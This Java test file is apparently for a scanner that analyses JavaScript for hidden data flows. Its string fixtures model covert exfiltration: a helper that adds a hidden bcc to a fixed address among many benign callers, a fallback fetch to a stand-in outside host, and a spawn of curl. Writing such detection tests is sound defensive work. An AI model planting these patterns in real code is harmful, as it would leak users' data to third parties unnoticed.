package dev.assay.scanners.javascript;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.finding.FindingKind;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** What helpers hide: one caller among many, and functions that fill what they are given. */
class HelpersTest {

    private static final String SEND =
            "const send = (path, body) => fetch(`https://api.parcelhub.zz${path}`,"
                    + " {method: 'POST', body: JSON.stringify(body)});";

    /** One line for each of many callers, with {@code #} as its number. */
    private static String many(String line) {
        return IntStream.range(0, 40)
                .mapToObj(number -> line.replace("#", Integer.toString(number)))
                .collect(Collectors.joining("\n"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "export const last = (a) => send('/mail', {to: a, bcc: 'me@orvanda.zz'})",
                "const put = (path, body) => send(path, body); export const last = (a) => put('/mail', {to: a, bcc: 'me@orvanda.zz'})",
            })
    void fieldOfOneCallerAmongManyIsSeen(String last) {
        var sample =
                Sample.of(SEND + many("export const f# = (a) => send('/p#', {n#: a});") + last);

        assertThat(sample.values(FindingKind.PAYLOAD_FIELD)).contains("api.parcelhub.zz bcc");
        assertThat(sample.values(FindingKind.CONSTANT_RECIPIENT))
                .anyMatch(value -> value.contains("me@orvanda.zz"));
    }

    @Test
    void fieldOfOneCallerOfAHelperOfAHelperIsSeen() {
        var sample =
                Sample.of(
                        "class Api {"
                                + " request(m, path, body) { return fetch('https://api.parcelhub.zz' + path,"
                                + " {method: m, body: JSON.stringify(body)}) }"
                                + " post(path, body) { return this.request('POST', path, body) } }\n"
                                + "const api = new Api();"
                                + many("export const f# = (a) => api.post('/p#', {n#: a});")
                                + "export const last = (a) => api.post('/mail', {bcc: 'me@orvanda.zz'})");

        assertThat(sample.values(FindingKind.PAYLOAD_FIELD)).contains("api.parcelhub.zz bcc");
    }

    @Test
    void hostOfOneCallerAmongManyIsContacted() {
        var sample =
                Sample.of(
                        "const get = (url) => fetch(url);"
                                + many("export const f# = () => get('https://api.parcelhub.zz/#');")
                                + "export const last = () => get('https://c.orvanda.zz/')");

        assertThat(sample.contacted()).contains("c.orvanda.zz");
    }

    @Test
    void programOfOneCallerAmongManyIsSeen() {
        var sample =
                Sample.of(
                        "import {execFile} from 'child_process';"
                                + "const run = (program, args) => execFile(program, args);"
                                + many("export const f# = () => run('tool#', []);")
                                + "export const last = () => run('curl', [])");

        assertThat(sample.values(FindingKind.PROCESS_SPAWN)).contains("execFile curl");
    }

    @Test
    void functionThatFillsWhatIsSentIsFollowed() {
        var sample =
                Sample.of(
                        SEND
                                + "const fill = (mail) => { mail.bcc = 'me@orvanda.zz' };"
                                + "export const f = (to) => { const mail = {to}; fill(mail);"
                                + " return send('/mail', mail) }");

        assertThat(sample.values(FindingKind.PAYLOAD_FIELD)).contains("api.parcelhub.zz bcc");
        assertThat(sample.values(FindingKind.CONSTANT_RECIPIENT))
                .anyMatch(value -> value.contains("me@orvanda.zz"));
    }

    @Test
    void constantIsKeptAmongManyUnknownValues() {
        var sample =
                Sample.of(
                        "const D = 'https://c.orvanda.zz';"
                                + "const clean = (value) => { const v = Array.isArray(value) ? value[0] : value;"
                                + " const t = typeof v === 'string' ? v.trim() : ''; return t || undefined };"
                                + many("export const f# = () => clean(process.env.A#);")
                                + "const issuer = () => clean(process.env.ISSUER) ?? D;"
                                + "const endpoint = () => `${issuer()}/introspect`;"
                                + "export const last = () => fetch(endpoint())");

        assertThat(sample.contacted()).contains("c.orvanda.zz");
    }

    @Test
    void whatAClientIsMadeWithGoesAlong() {
        var sample =
                Sample.of(
                        "import axios from 'axios'; const id = process.env.HUMAN;"
                                + "const client = axios.create({headers: {'X-Human': id}});"
                                + "export const f = (q) => client.post('https://api.parcelhub.zz/', {q})");

        assertThat(sample.values(FindingKind.PAYLOAD_FIELD))
                .contains("api.parcelhub.zz headers.X-Human");
    }

    @Test
    void copyOfTheEnvironmentIsTheEnvironment() {
        var sample =
                Sample.of(
                        "const config = {...process.env}; config.OWN_SETTING = 'x';"
                                + "export const f = () => config.MODE_OF_IT || config.other");

        assertThat(sample.values(FindingKind.ENV_ACCESS))
                .contains("MODE_OF_IT")
                .doesNotContain("OWN_SETTING", "other");
    }

    @Test
    void methodOfAClassThatIsAClientSends() {
        var sample =
                Sample.of(
                        "import {v2} from '@parcelhub/client'; const api = new v2.LogsApi({});"
                                + "export const f = (query) => api.listLogs({body: {query}})");

        assertThat(sample.values(FindingKind.PAYLOAD_FIELD))
                .contains("@parcelhub/client body.query");
    }

    @Test
    void hostThatCountsUsersIsTelemetryAndAnApiOfItsVendorIsNot() {
        var counts = Sample.of("export const f = () => fetch('https://static.scarf.sh/a.png')");
        var asks = Sample.of("export const f = () => fetch('https://sentry.io/api/0/issues/')");

        assertThat(counts.values(FindingKind.TELEMETRY)).contains("static.scarf.sh");
        assertThat(asks.values(FindingKind.TELEMETRY)).isEmpty();
    }
}
